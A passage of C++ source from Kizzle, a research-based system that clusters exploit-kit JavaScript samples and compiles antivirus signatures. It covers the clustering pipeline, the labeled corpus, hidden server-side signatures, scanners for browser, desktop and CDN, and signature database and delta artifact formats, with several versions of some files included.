  ++cache_misses_;
  const Verdict v = verdict_of(*bundle_, text::normalize_js(script_source));
  lru_.push_front(key);
  cache_.emplace(key, Entry{v, lru_.begin()});
  if (cache_.size() > capacity_) {
    cache_.erase(lru_.back());
    lru_.pop_back();
  }
  return v;
}

// ------------------------------- desktop -------------------------------

DesktopScanner::DesktopScanner(const SignatureBundle* bundle)
    : bundle_(bundle) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("DesktopScanner: null bundle");
  }
}

Verdict DesktopScanner::scan_file(std::string_view content) const {
  // Files on disk are arbitrary bytes (cached HTML, bare .js, fragments):
  // raw AV normalization handles all of them, and signature construction
  // guarantees raw-normalized script content is matchable (see
  // text/normalize.h).
  return verdict_of(*bundle_, text::normalize_raw(content));
}

// --------------------------------- CDN ---------------------------------

CdnFilter::CdnFilter(const SignatureBundle* bundle, std::size_t threads)
    : bundle_(bundle), threads_(threads) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("CdnFilter: null bundle");
  }
}

CdnFilter::~CdnFilter() = default;

CdnFilter::Report CdnFilter::filter(
    std::span<const std::string> candidates) const {
  // Normalize + scan each candidate in parallel (the bundle is immutable
  // and its prefilter is shared read-only), then aggregate sequentially in
  // index order so the report is deterministic. The pool is created on
  // the first batch that fans out and lives with the filter, so repeated
  // batches don't pay thread churn; single-candidate batches skip the
  // fan-out entirely.
  std::vector<std::optional<std::size_t>> verdicts(candidates.size());
  if (candidates.size() < 2) {
    for (std::size_t i = 0; i < candidates.size(); ++i) {
      verdicts[i] = bundle_->match(text::normalize_raw(candidates[i]));
    }
  } else {
    // Serialize concurrent filter() calls: ThreadPool::wait() is
    // pool-global, so two interleaved parallel_for batches could steal
    // each other's completion (and first-thrown exception), letting a
    // never-scanned candidate slip into `hostable`. One batch at a time
    // keeps the report trustworthy; each batch still fans out internally.
    std::lock_guard<std::mutex> lock(filter_mu_);
    if (pool_ == nullptr) pool_ = std::make_unique<ThreadPool>(threads_);
    pool_->parallel_for(candidates.size(), [&](std::size_t i) {
      verdicts[i] = bundle_->match(text::normalize_raw(candidates[i]));
    });
  }

  Report report;
  for (std::size_t i = 0; i < candidates.size(); ++i) {
    if (verdicts[i]) {
      report.rejected.push_back(i);
      ++report.hits_per_signature[bundle_->info(*verdicts[i]).name];
    } else {
      report.hostable.push_back(i);
    }
  }
  return report;
}

}  // namespace kizzle::core
