#include "core/deploy.h"

#include <stdexcept>

#include "support/hash.h"
#include "text/html.h"
#include "text/normalize.h"

namespace kizzle::core {

SignatureBundle::SignatureBundle(
    const std::vector<DeployedSignature>& signatures) {
  infos_ = signatures;
  compiled_.reserve(signatures.size());
  for (const DeployedSignature& s : signatures) {
    compiled_.push_back(match::Pattern::compile(s.pattern));
  }
}

std::optional<std::size_t> SignatureBundle::match(
    std::string_view normalized) const {
  for (std::size_t i = 0; i < compiled_.size(); ++i) {
    if (compiled_[i].search(normalized).matched) return i;
  }
  return std::nullopt;
}

const DeployedSignature& SignatureBundle::info(std::size_t index) const {
  if (index >= infos_.size()) {
    throw std::out_of_range("SignatureBundle::info: bad index");
  }
  return infos_[index];
}

namespace {

Verdict verdict_of(const SignatureBundle& bundle,
                   std::string_view normalized) {
  Verdict v;
  if (const auto hit = bundle.match(normalized)) {
    v.malicious = true;
    v.signature = bundle.info(*hit).name;
    v.family = bundle.info(*hit).family;
  }
  return v;
}

}  // namespace

// ------------------------------- browser -------------------------------

BrowserGate::BrowserGate(const SignatureBundle* bundle,
                         std::size_t cache_capacity)
    : bundle_(bundle), capacity_(cache_capacity) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("BrowserGate: null bundle");
  }
  if (capacity_ == 0) capacity_ = 1;
}

Verdict BrowserGate::check_script(std::string_view script_source) {
  const std::uint64_t key = fnv1a64(script_source);
  if (auto it = cache_.find(key); it != cache_.end()) {
    ++cache_hits_;
    // Refresh LRU position.
    lru_.erase(it->second.position);
    lru_.push_front(key);
    it->second.position = lru_.begin();
    return it->second.verdict;
  }
  ++cache_misses_;
  const Verdict v = verdict_of(*bundle_, text::normalize_js(script_source));
  lru_.push_front(key);
  cache_.emplace(key, Entry{v, lru_.begin()});
  if (cache_.size() > capacity_) {
    cache_.erase(lru_.back());
    lru_.pop_back();
  }
  return v;
}

// ------------------------------- desktop -------------------------------

DesktopScanner::DesktopScanner(const SignatureBundle* bundle)
    : bundle_(bundle) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("DesktopScanner: null bundle");
  }
}

Verdict DesktopScanner::scan_file(std::string_view content) const {
  // Files on disk are arbitrary bytes (cached HTML, bare .js, fragments):
  // raw AV normalization handles all of them, and signature construction
  // guarantees raw-normalized script content is matchable (see
  // text/normalize.h).
  return verdict_of(*bundle_, text::normalize_raw(content));
}

// --------------------------------- CDN ---------------------------------

CdnFilter::CdnFilter(const SignatureBundle* bundle) : bundle_(bundle) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("CdnFilter: null bundle");
  }
}

CdnFilter::Report CdnFilter::filter(
    std::span<const std::string> candidates) const {
  Report report;
  for (std::size_t i = 0; i < candidates.size(); ++i) {
    const auto hit = bundle_->match(text::normalize_raw(candidates[i]));
    if (hit) {
      report.rejected.push_back(i);
      ++report.hits_per_signature[bundle_->info(*hit).name];
    } else {
      report.hostable.push_back(i);
    }
  }
  return report;
}

}  // namespace kizzle::core
