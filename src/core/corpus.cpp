#include "core/corpus.h"

#include <stdexcept>

namespace kizzle::core {

LabeledCorpus::LabeledCorpus(winnow::Params params, std::size_t max_per_family)
    : params_(params), max_per_family_(max_per_family) {
  if (max_per_family_ == 0) {
    throw std::invalid_argument("LabeledCorpus: max_per_family == 0");
  }
}

void LabeledCorpus::add_family(const std::string& family, double threshold) {
  if (find(family) != nullptr) {
    throw std::invalid_argument("LabeledCorpus: duplicate family " + family);
  }
  families_.push_back(Family{family, threshold, {}});
}

const LabeledCorpus::Family* LabeledCorpus::find(
    const std::string& family) const {
  for (const Family& f : families_) {
    if (f.name == family) return &f;
  }
  return nullptr;
}

void LabeledCorpus::add_sample(const std::string& family,
                               const std::string& text) {
  for (Family& f : families_) {
    if (f.name == family) {
      f.entries.push_back(winnow::FingerprintSet::of_text(text, params_));
      if (f.entries.size() > max_per_family_) f.entries.pop_front();
      return;
    }
  }
  throw std::invalid_argument("LabeledCorpus: unknown family " + family);
}

double LabeledCorpus::containment(const winnow::FingerprintSet& prototype,
                                  const std::string& family) const {
  const Family* f = find(family);
  if (f == nullptr) {
    throw std::invalid_argument("LabeledCorpus: unknown family " + family);
  }
  double best = 0.0;
  for (const auto& entry : f->entries) {
    best = std::max(best, prototype.containment(entry));
  }
  return best;
}

LabelScore LabeledCorpus::label(
    const winnow::FingerprintSet& prototype) const {
  LabelScore score;
  double best_eligible = 0.0;
  for (const Family& f : families_) {
    double best = 0.0;
    for (const auto& entry : f.entries) {
      best = std::max(best, prototype.containment(entry));
    }
    score.overlap = std::max(score.overlap, best);
    if (best >= f.threshold && best > best_eligible) {
      best_eligible = best;
      score.family = f.name;
    }
  }
  return score;
}

std::vector<std::string> LabeledCorpus::families() const {
  std::vector<std::string> out;
  out.reserve(families_.size());
  for (const Family& f : families_) out.push_back(f.name);
  return out;
}

std::size_t LabeledCorpus::size(const std::string& family) const {
  const Family* f = find(family);
  return f == nullptr ? 0 : f->entries.size();
}

}  // namespace kizzle::core
