// The Kizzle driver (paper §III, Fig 7).
//
// "The main routine breaks the new samples into a set of clusters, labels
//  each cluster either as benign or corresponding to a known kit, and if
//  the cluster is malicious, generates a new signature for that cluster
//  based on the samples in it."
//
// One KizzlePipeline instance runs the whole campaign: it is seeded once
// with known unpacked kit payloads, then fed one day's sample batch at a
// time. Signatures accumulate; a cluster only triggers a new signature
// when the already-deployed signatures of its family no longer cover its
// samples (this is what makes Fig 12 a staircase: one new signature per
// packer change).
#pragma once

#include <cstdint>
#include <iosfwd>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "cluster/partitioned.h"
#include "core/corpus.h"
#include "engine/engine.h"
#include "sig/compiler.h"
#include "support/interner.h"
#include "support/rng.h"
#include "support/thread_pool.h"
#include "text/abstraction.h"
#include "unpack/unpackers.h"
#include "winnow/winnow.h"

namespace kizzle::core {

// Maps the unpack knobs of the engine-level governor (engine/limits.h)
// onto the unpacker's own budget struct: zero fields keep the UnpackLimits
// defaults, and a non-zero max_expansion_ratio additionally caps total
// decoded output at ratio × input_bytes (tighter bound wins). This is the
// seam through which one ScanLimits governs the whole ingest path —
// callers that unpack attacker-controlled text derive their UnpackLimits
// here instead of inventing a second knob set.
unpack::UnpackLimits unpack_limits_of(const engine::ScanLimits& limits,
                                      std::size_t input_bytes = 0);

struct PipelineConfig {
  PipelineConfig() {
    // Production settings (§V "Tuning the ML"): small daily clusters
    // under-sample the kits' length randomization, so synthesized classes
    // get slack, and multi-kilobyte encoded-payload literals are converted
    // to classes so signatures survive payload churn.
    signature.length_slack = 0.12;
    signature.max_literal_run = 64;
  }

  cluster::DbscanParams dbscan{.eps = 0.10, .min_mass = 3};
  std::size_t partitions = 8;  // simulated clustering machines
  std::size_t threads = 0;     // 0 = hardware concurrency
  winnow::Params winnow;
  sig::CompilerParams signature;
  text::Abstraction abstraction = text::Abstraction::KeywordsAndPunct;
  // A new signature is issued only when existing family signatures match
  // fewer than this fraction of the cluster's samples. Below 1.0 so that
  // a lone per-sample variant or truncated capture does not force a
  // re-issue every day.
  double coverage_threshold = 0.90;
  // Cap on the number of cluster samples fed to the signature compiler.
  std::size_t max_signature_samples = 24;
  std::size_t corpus_max_per_family = 40;
  // Resource governor for the ingest path: cluster-prototype unpacking
  // runs on attacker-controlled landing pages, so its depth/byte budgets
  // come from here (see unpack_limits_of). Default = unlimited engine
  // knobs, which map to the conservative UnpackLimits defaults.
  engine::ScanLimits scan_limits;
  // Pre-deployment lint gate (analyze/analyze.h): a freshly compiled
  // signature is statically analyzed against the deployed database before
  // it ships; error-severity findings (backtracking bomb, dead or
  // shadowed signature) veto the deployment and are reported as the
  // cluster's signature_failure. The compiler should never produce such
  // signatures — the gate is the machine reviewer that catches the day
  // it does.
  bool lint_deployments = true;
};

struct DeployedSignature {
  std::string name;    // "KZ.Nuclear.3"
  std::string family;
  int issued_day = 0;
  std::string pattern;  // regex source
  std::size_t token_length = 0;
};

struct ClusterReport {
  std::vector<std::size_t> samples;  // indices into the day's batch
  std::string label;                 // empty = benign/unlabeled
  double overlap = 0.0;              // winnow containment at labeling
  bool unpacked = false;
  std::string unpacker;              // which unpacker fired (if any)
  std::string prototype_text;        // normalized unpacked prototype
  bool issued_signature = false;
  std::string signature_name;
  std::string signature_failure;     // non-empty if compilation failed
  double coverage = -1.0;  // fraction of samples existing signatures match
                           // (malicious clusters only)
};

struct DayReport {
  int day = 0;
  std::size_t n_samples = 0;
  std::size_t n_clusters = 0;
  std::size_t n_noise_samples = 0;
  std::vector<ClusterReport> clusters;
  cluster::PipelineStats cluster_stats;
  double seconds = 0.0;
};

class KizzlePipeline {
 public:
  KizzlePipeline(PipelineConfig cfg, std::uint64_t seed);

  // Registers a kit family with its labeling threshold and seeds it with a
  // known unpacked sample.
  void seed_family(const std::string& family, double threshold,
                   const std::string& unpacked_payload);

  // Processes one day's batch of HTML documents (ascending days).
  DayReport process_day(int day, const std::vector<std::string>& html_docs);

  // All signatures deployed so far, in issue order.
  const std::vector<DeployedSignature>& signatures() const {
    return signatures_;
  }

  // The compiled form of the deployed set, maintained incrementally across
  // releases (engine::Database::extend): scan it directly with
  // engine::scan and a Scratch of your own instead of recompiling
  // signatures(). Invalidated by the next process_day that deploys.
  const engine::Database& database() const { return db_; }

  // Persists the deployed signature set together with its already-built
  // literal prefilter as a `.kpf` bundle artifact (core/sigdb.h): the
  // automaton is built once here, at signature-release time, and the
  // deployment channels load it (SignatureBundle's istream constructor)
  // instead of rebuilding per process.
  void export_artifact(std::ostream& os) const;

  // Persists the *increment* since `base_day` as a `KZDELTA` delta
  // artifact (core/sigdb.h): added = signatures issued after `base_day`
  // (the deployed list is append-only in issue order, so the base set is
  // a prefix), retired = none (the paper's pipeline only ever issues).
  // The delta's lineage fingerprints bind it to the exact base set —
  // engine::Database::extend / serve refuse it anywhere else. An empty
  // base (nothing issued by `base_day`) is legal: the delta then carries
  // the whole set.
  void export_delta(std::ostream& os, int base_day) const;

  // Scans AV-normalized text against all deployed signatures; returns the
  // index into signatures() of the first match.
  std::optional<std::size_t> scan(std::string_view normalized_text) const;

  // Scans against signatures issued strictly before `day` plus — with the
  // caller's say — those issued on `day` (used by the evaluation harness
  // to model same-day deployment latency).
  std::optional<std::size_t> scan_as_of(std::string_view normalized_text,
                                        int day, bool include_same_day) const;

  const LabeledCorpus& corpus() const { return corpus_; }

 private:
  struct SampleData {
    std::vector<text::Token> tokens;
    std::vector<std::uint32_t> stream;
    std::string normalized;  // normalized token text (scan target)
  };

  std::size_t cluster_medoid(const std::vector<std::size_t>& unique_members,
                             const std::vector<std::vector<std::uint32_t>>& streams);
  void process_cluster(int day, const std::vector<SampleData>& data,
                       ClusterReport& report);

  PipelineConfig cfg_;
  Rng rng_;
  // Shared worker pool for the clustering map/reduce, created on the first
  // process_day and reused across the campaign (spawning threads per day
  // showed up in the daily-run profile).
  std::unique_ptr<ThreadPool> pool_;
  Interner interner_;
  LabeledCorpus corpus_;
  std::vector<DeployedSignature> signatures_;
  // The compiled form of the deployed set (engine/engine.h): patterns plus
  // the shared literal prefilter, rebuilt on each (rare) deployment so
  // scan()/scan_as_of() confirm only candidate signatures out of pooled
  // per-worker scratches.
  engine::Database db_;
  mutable engine::ScratchPool scratches_;
  int sig_counter_ = 0;
};

}  // namespace kizzle::core
