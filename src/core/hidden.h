// Hidden server-side signatures — the second §V extension.
//
// "To counter such attacks, Kizzle can be extended to employ hidden
//  signatures on the server side. Such signatures can either match on
//  specific strings contained in the inner layer or even match on
//  execution behavior. As they never leave the server, the adversary has
//  no means of learning what they match on and, thus, is not able to
//  circumvent detection."
//
// Client-side signatures match the *packed* sample and are visible to the
// attacker (any deployed signature is an oracle, §I). Hidden signatures
// are compiled from the family's *unpacked* payloads and evaluated only
// server-side, after unpacking: a new packer — the attacker's cheapest
// move — does not change what they match on. They are defeated only by
// rewriting the inner core, which is exactly the work Kizzle exists to
// force on the attacker.
#pragma once

#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "match/pattern.h"
#include "sig/compiler.h"
#include "unpack/unpackers.h"

namespace kizzle::core {

struct HiddenSignature {
  std::string name;    // "HS.RIG.1"
  std::string family;
  std::string pattern;
};

class HiddenSignatureEngine {
 public:
  // `params` configures the signature compiler run over unpacked text;
  // defaults use deployment slack.
  explicit HiddenSignatureEngine(sig::CompilerParams params = [] {
    sig::CompilerParams p;
    p.length_slack = 0.15;
    p.max_literal_run = 64;
    return p;
  }());

  // Compiles a hidden signature for `family` from known unpacked payload
  // texts (at least one; more samples widen the variable columns).
  // Returns false when compilation fails (e.g. the payloads share no
  // common window).
  bool learn(const std::string& family,
             std::span<const std::string> unpacked_payloads);

  // Server-side scan of a packed script: unpack (multi-layer, governed by
  // set_unpack_limits — the script is attacker-controlled), then match
  // the inner text. Returns the family of the first hit.
  std::optional<std::string> scan_packed(std::string_view script) const;

  // Budgets for scan_packed's unpack stage; defaults are the conservative
  // UnpackLimits ones.
  void set_unpack_limits(const unpack::UnpackLimits& limits) {
    unpack_limits_ = limits;
  }
  const unpack::UnpackLimits& unpack_limits() const { return unpack_limits_; }

  // Matches already-unpacked (inner) text directly.
  std::optional<std::string> scan_inner(std::string_view inner_text) const;

  const std::vector<HiddenSignature>& signatures() const { return sigs_; }

 private:
  sig::CompilerParams params_;
  std::vector<HiddenSignature> sigs_;
  std::vector<match::Pattern> compiled_;
  unpack::UnpackLimits unpack_limits_;
  int counter_ = 0;
};

}  // namespace kizzle::core
