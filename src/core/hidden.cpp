#include "core/hidden.h"

#include "text/lexer.h"
#include "text/normalize.h"
#include "unpack/unpackers.h"

namespace kizzle::core {

HiddenSignatureEngine::HiddenSignatureEngine(sig::CompilerParams params)
    : params_(params) {}

bool HiddenSignatureEngine::learn(
    const std::string& family,
    std::span<const std::string> unpacked_payloads) {
  if (unpacked_payloads.empty()) return false;
  std::vector<std::vector<text::Token>> tokenized;
  tokenized.reserve(unpacked_payloads.size());
  for (const std::string& payload : unpacked_payloads) {
    tokenized.push_back(text::lex(payload));
  }
  const sig::Signature signature = sig::compile_signature(tokenized, params_);
  if (!signature.ok) return false;
  HiddenSignature hs;
  hs.family = family;
  hs.name = "HS." + family + "." + std::to_string(++counter_);
  hs.pattern = signature.pattern;
  compiled_.push_back(match::Pattern::compile(hs.pattern));
  sigs_.push_back(std::move(hs));
  return true;
}

std::optional<std::string> HiddenSignatureEngine::scan_inner(
    std::string_view inner_text) const {
  for (std::size_t i = 0; i < compiled_.size(); ++i) {
    if (compiled_[i].search(inner_text).matched) return sigs_[i].family;
  }
  return std::nullopt;
}

std::optional<std::string> HiddenSignatureEngine::scan_packed(
    std::string_view script) const {
  const auto unpacked = unpack::unpack_fixpoint(script, unpack_limits_);
  if (!unpacked || unpacked->text.empty()) return std::nullopt;
  return scan_inner(text::normalize_js(unpacked->text));
}

}  // namespace kizzle::core
