// Signature database serialization.
//
// The deployable artifact of a Kizzle run is its signature set; AV
// distribution channels ship such sets as versioned database files
// (paper §I.A: "AV signatures enjoy a well-established deployment channel
// with frequent, automatic updates"). The format is a line-oriented,
// diff-friendly text file:
//
//   # kizzle-signatures v1
//   <name> \t <family> \t <issued_day> \t <token_length> \t <pattern>
//
// Patterns contain no tabs or newlines by construction (they are compiled
// from normalized text, which strips whitespace).
//
// Next to the text database there is a binary *bundle artifact* (`.kpf`):
// the signature set plus the pre-built Aho–Corasick literal prefilter over
// it, produced once at signature-release time (`kizzle pack`, or
// KizzlePipeline::export_artifact) so deployment processes load the frozen
// automaton instead of each rebuilding it. Layout: an 8-byte magic, a
// format version, an endianness sentinel, the embedded text database, then
// the prefilter in LiteralPrefilter::serialize's self-checking format.
// Version policy mirrors the prefilter's: any layout change bumps the
// version, loaders reject unknown versions and foreign endianness.
// Both loaders run on untrusted bytes and throw the kizzle typed-error
// taxonomy (support/errors.h): InputError for unparsable text (messages
// carry line number AND byte offset), ArtifactError for a malformed
// binary bundle, ResourceError when declared/observed sizes exceed the
// loader caps below. No other exception escapes on bad input, and no
// allocation happens before the size that justifies it is validated.
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

#include "core/pipeline.h"
#include "match/prefilter.h"

namespace kizzle::core {

// Loader caps: a signature line longer than this, or a database with more
// signatures than this, is rejected with ResourceError before it is
// stored. Generous against any legitimate set (patterns are normalized
// script excerpts, databases are a few thousand signatures) yet small
// enough that a hostile stream can't balloon memory line by line.
inline constexpr std::size_t kMaxSignatureLineBytes = 1 << 16;  // 64 KiB
inline constexpr std::size_t kMaxSignatureCount = 1 << 17;      // 131072

// Serializes a signature set. Deterministic output.
std::string save_signatures(const std::vector<DeployedSignature>& signatures);
void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures);

// Parses a database back. Throws kizzle::InputError on malformed input
// (bad header, wrong field count, bad numbers, patterns that fail to
// compile) with line number and byte offset in the message, and
// kizzle::ResourceError past the caps above. `validate_patterns` = false
// skips the trial compilation of every pattern — for callers that compile
// the set themselves right after (SignatureBundle's artifact constructor)
// and would otherwise pay it twice.
std::vector<DeployedSignature> load_signatures(const std::string& content);
std::vector<DeployedSignature> load_signatures(std::istream& is,
                                               bool validate_patterns = true);

// ---------------------------- bundle artifact ----------------------------

inline constexpr std::string_view kArtifactMagic = "KZBUNDLE";
inline constexpr std::uint32_t kArtifactVersion = 1;

struct BundleArtifact {
  std::vector<DeployedSignature> signatures;
  match::LiteralPrefilter prefilter;  // built, ids == signature indices
};

// Writes signatures + prefilter as one deployable artifact. `prebuilt`
// must register exactly one id per signature (its index); pass nullptr to
// have the prefilter compiled and built here from the signature patterns.
void save_artifact(std::ostream& os,
                   const std::vector<DeployedSignature>& signatures,
                   const match::LiteralPrefilter* prebuilt = nullptr);

// Parses an artifact back; the returned prefilter is ready to scan without
// a rebuild. Throws kizzle::ArtifactError on malformed/corrupt/mismatched
// input (including a prefilter whose id count disagrees with the
// signature list) and kizzle::ResourceError on implausible declared
// sizes. `validate_patterns` as in load_signatures.
BundleArtifact load_artifact(std::istream& is, bool validate_patterns = true);

}  // namespace kizzle::core
