// Signature database serialization.
//
// The deployable artifact of a Kizzle run is its signature set; AV
// distribution channels ship such sets as versioned database files
// (paper §I.A: "AV signatures enjoy a well-established deployment channel
// with frequent, automatic updates"). The format is a line-oriented,
// diff-friendly text file:
//
//   # kizzle-signatures v1
//   <name> \t <family> \t <issued_day> \t <token_length> \t <pattern>
//
// Patterns contain no tabs or newlines by construction (they are compiled
// from normalized text, which strips whitespace).
#pragma once

#include <iosfwd>
#include <string>
#include <vector>

#include "core/pipeline.h"

namespace kizzle::core {

// Serializes a signature set. Deterministic output.
std::string save_signatures(const std::vector<DeployedSignature>& signatures);
void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures);

// Parses a database back. Throws std::runtime_error on malformed input
// (bad header, wrong field count, patterns that fail to compile).
std::vector<DeployedSignature> load_signatures(const std::string& content);
std::vector<DeployedSignature> load_signatures(std::istream& is);

}  // namespace kizzle::core
