// Signature database serialization.
//
// The deployable artifact of a Kizzle run is its signature set; AV
// distribution channels ship such sets as versioned database files
// (paper §I.A: "AV signatures enjoy a well-established deployment channel
// with frequent, automatic updates"). The format is a line-oriented,
// diff-friendly text file:
//
//   # kizzle-signatures v1
//   <name> \t <family> \t <issued_day> \t <token_length> \t <pattern>
//
// Patterns contain no tabs or newlines by construction (they are compiled
// from normalized text, which strips whitespace).
//
// Next to the text database there are two binary release formats, both
// little-endian, both sealed with the shared checksum primitive
// (kizzle::checksum_update, one pass over the whole payload):
//
// *Bundle artifact* (`.kpf`, magic "KZBUNDLE", version 2): the signature
// set plus the pre-built Aho–Corasick literal prefilter over it, produced
// once at signature-release time (`kizzle pack`, or
// KizzlePipeline::export_artifact) so deployment processes load the
// frozen automaton instead of each rebuilding it. Layout:
//
//   "KZBUNDLE"(8) | u32 version=2 | u32 endian 0x01020304 |
//   u64 db_len | db text bytes | zero pad to a 64-byte boundary
//   (relative to the artifact start) | prefilter blob
//   (LiteralPrefilter::serialize v2: aligned, length-prefixed table
//   sections + its own single-pass checksum trailer)
//
// The pad exists so that when the artifact is mapped from disk the
// prefilter's table sections land on 64-byte boundaries and the loader
// can point std::span views straight into the mapping (zero-copy) instead
// of copying megabytes of automaton tables. load_artifact(span) is that
// path; the istream overload still accepts version-1 artifacts
// (unaligned, per-field checksum granularity) for bundles packed by older
// releases.
//
// *Delta artifact* (`.kzd`, magic "KZDELTAF", version 1): an incremental
// update from one deployed signature set to the next — the daily Kizzle
// cycle retires a few signatures and issues a few new ones, and shipping
// a full multi-megabyte bundle for an 8-signature day wastes the
// distribution channel. Layout:
//
//   "KZDELTAF"(8) | u32 version=1 | u32 endian |
//   u64 payload_size | u64 base_fingerprint | u64 result_fingerprint |
//   u64 n_retired | u64 retired[n_retired] (ascending indices into the
//   base set) | u64 db_len | added-signature text db (save_signatures
//   format) | u64 checksum (single pass over the payload_size bytes
//   between the payload_size field and the checksum)
//
// Lineage is enforced by fingerprints: `fingerprint(signatures, retired)`
// chains the identity of every entry (name, family, pattern) and the
// retired set through checksum_update. A delta records the fingerprint of
// the exact base it was diffed against and of the set that must result;
// engine::Database::extend refuses a delta whose base_fingerprint does
// not match the live database, and verifies result_fingerprint after
// applying, so out-of-order or cross-lineage deltas cannot silently
// corrupt a deployment.
//
// Version policy mirrors the prefilter's: any layout change bumps the
// version, loaders reject unknown versions and foreign endianness.
// All loaders run on untrusted bytes and throw the kizzle typed-error
// taxonomy (support/errors.h): InputError for unparsable text (messages
// carry line number AND byte offset), ArtifactError for a malformed
// binary bundle or delta, ResourceError when declared/observed sizes
// exceed the loader caps below. No other exception escapes on bad input,
// and no allocation happens before the size that justifies it is
// validated.
#pragma once

#include <cstddef>
#include <iosfwd>
#include <span>
#include <string>
#include <vector>

#include "core/pipeline.h"
#include "match/prefilter.h"
#include "support/hash.h"

namespace kizzle::core {

// Loader caps: a signature line longer than this, or a database with more
// signatures than this, is rejected with ResourceError before it is
// stored. Generous against any legitimate set (patterns are normalized
// script excerpts, databases are a few thousand signatures) yet small
// enough that a hostile stream can't balloon memory line by line.
inline constexpr std::size_t kMaxSignatureLineBytes = 1 << 16;  // 64 KiB
inline constexpr std::size_t kMaxSignatureCount = 1 << 17;      // 131072

// Serializes a signature set. Deterministic output.
std::string save_signatures(const std::vector<DeployedSignature>& signatures);
void save_signatures(std::ostream& os,
                     const std::vector<DeployedSignature>& signatures);

// Parses a database back. Throws kizzle::InputError on malformed input
// (bad header, wrong field count, bad numbers, patterns that fail to
// compile) with line number and byte offset in the message, and
// kizzle::ResourceError past the caps above. `validate_patterns` = false
// skips the trial compilation of every pattern — for callers that compile
// the set themselves right after (SignatureBundle's artifact constructor)
// and would otherwise pay it twice.
std::vector<DeployedSignature> load_signatures(const std::string& content);
std::vector<DeployedSignature> load_signatures(std::istream& is,
                                               bool validate_patterns = true);

// ---------------------------- bundle artifact ----------------------------

inline constexpr std::string_view kArtifactMagic = "KZBUNDLE";
inline constexpr std::uint32_t kArtifactVersion = 2;

struct BundleArtifact {
  std::vector<DeployedSignature> signatures;
  match::LiteralPrefilter prefilter;  // built, ids == signature indices
};

// Writes signatures + prefilter as one deployable artifact. `prebuilt`
// must register exactly one id per signature (its index); pass nullptr to
// have the prefilter compiled and built here from the signature patterns.
// `version` selects the on-disk layout: 2 (default, aligned/zero-copy) or
// 1 (legacy, for compatibility testing against old loaders).
void save_artifact(std::ostream& os,
                   const std::vector<DeployedSignature>& signatures,
                   const match::LiteralPrefilter* prebuilt = nullptr,
                   std::uint32_t version = kArtifactVersion);

// Parses an artifact back; the returned prefilter is ready to scan without
// a rebuild. Throws kizzle::ArtifactError on malformed/corrupt/mismatched
// input (including a prefilter whose id count disagrees with the
// signature list) and kizzle::ResourceError on implausible declared
// sizes. `validate_patterns` as in load_signatures. Accepts version 1 and
// version 2 artifacts.
BundleArtifact load_artifact(std::istream& is, bool validate_patterns = true);

// Zero-copy overload over a byte range, typically a support::MappedFile.
// For a version-2 artifact whose mapping starts 64-byte aligned (mmap
// returns page-aligned addresses, so any mapped file qualifies), the
// returned prefilter's automaton tables are std::span views INTO `blob` —
// the caller must keep the underlying bytes alive and unmodified for the
// lifetime of the returned object (engine::Database does this by holding
// the MappedFile in a shared_ptr). Version-1 artifacts and misaligned
// ranges fall back to owned copies with identical semantics.
BundleArtifact load_artifact(std::span<const std::byte> blob,
                             bool validate_patterns = true);

// ---------------------------- delta artifact -----------------------------

inline constexpr std::string_view kDeltaMagic = "KZDELTAF";
inline constexpr std::uint32_t kDeltaVersion = 1;

// An incremental update: retire `retired` (indices into the base set, in
// ascending order) and append `added`. Application order is retire-then-
// append, so added signatures receive ids starting at the base set's size.
struct DeltaArtifact {
  std::uint64_t base_fingerprint = 0;    // set the delta applies to
  std::uint64_t result_fingerprint = 0;  // set that must result
  std::vector<std::uint64_t> retired;    // ascending indices into base
  std::vector<DeployedSignature> added;
};

// Lineage fingerprint of a deployed set: chains each entry's identity
// (name, family, pattern — deployment metadata like issued_day is not
// part of identity) and then the retired index set, all through
// kizzle::checksum_update with length-prefixed mixing so field boundaries
// are unambiguous. Two sets fingerprint equal iff they hold the same
// signatures in the same slots with the same tombstones.
inline constexpr std::uint64_t kFingerprintBasis = kChecksumBasis;
std::uint64_t fingerprint(const std::vector<DeployedSignature>& signatures,
                          std::span<const std::uint64_t> retired = {});

// Mixing steps, exposed so engine::Database (which stores entries, not
// DeployedSignatures) can compute the identical fingerprint.
void fingerprint_mix(std::uint64_t& sum, std::string_view name,
                     std::string_view family, std::string_view pattern);
void fingerprint_retire(std::uint64_t& sum,
                        std::span<const std::uint64_t> retired);

// Writes / parses a delta artifact. save_delta validates that `retired`
// is strictly ascending and that no field contains tab/newline (via
// save_signatures); load_delta runs on untrusted bytes with the same
// error taxonomy as load_artifact and re-validates ordering, caps and the
// checksum before returning.
void save_delta(std::ostream& os, const DeltaArtifact& delta);
DeltaArtifact load_delta(std::istream& is, bool validate_patterns = true);

}  // namespace kizzle::core
