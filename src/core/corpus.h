// The labeled corpus of known unpacked malware (paper §III.B).
//
// Kizzle is seeded with unpacked samples of the kits it tracks; every
// cluster prototype that labeling accepts is folded back in, so the corpus
// follows each kit's drift. Entries are stored as winnow fingerprint sets;
// labeling compares a prototype's fingerprints against every entry of
// every family and takes the best containment.
#pragma once

#include <deque>
#include <string>
#include <vector>

#include "winnow/winnow.h"

namespace kizzle::core {

struct LabelScore {
  std::string family;   // empty when nothing reaches its threshold
  double overlap = 0.0; // best containment across all families
};

class LabeledCorpus {
 public:
  explicit LabeledCorpus(winnow::Params params = {}, std::size_t max_per_family = 40);

  // Registers a family with its labeling threshold (thresholds are
  // family-specific, §III.B).
  void add_family(const std::string& family, double threshold);

  // Adds a known unpacked sample for the family (normalized text).
  // The per-family history is capped; oldest entries fall off.
  void add_sample(const std::string& family, const std::string& text);

  // Best-matching family whose containment threshold is met, together
  // with the overall best overlap (even when below threshold).
  LabelScore label(const winnow::FingerprintSet& prototype) const;

  // Max containment of `prototype` against one family's entries.
  double containment(const winnow::FingerprintSet& prototype,
                     const std::string& family) const;

  const winnow::Params& params() const { return params_; }
  std::vector<std::string> families() const;
  std::size_t size(const std::string& family) const;

 private:
  struct Family {
    std::string name;
    double threshold;
    std::deque<winnow::FingerprintSet> entries;
  };
  const Family* find(const std::string& family) const;

  winnow::Params params_;
